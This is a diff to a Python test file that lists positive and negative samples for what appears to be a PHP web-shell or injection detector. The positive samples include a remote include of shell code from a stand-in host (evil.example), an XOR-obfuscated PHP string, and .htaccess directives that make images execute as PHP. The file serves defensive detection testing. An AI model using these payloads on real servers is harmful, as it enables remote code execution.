@@ -48,6 +48,7 @@ CASES: tuple[Case, ...] = (
             '$_=("{"^"<").("{"^">");',
             "AddType application/x-httpd-php .jpg",
             "php_value auto_prepend_file /tmp/x",
+            "include 'http://evil.example/shell.txt';",
         ),
         (
             "PHP developer wanted",
@@ -76,6 +77,7 @@ CASES: tuple[Case, ...] = (
             "2^3 = 8 and x ^ y",
             'He said "hi" ^ "bye"',
             "php value for money",
+            "include 'https://example.com' in your bio",
         ),
     ),
     Case(
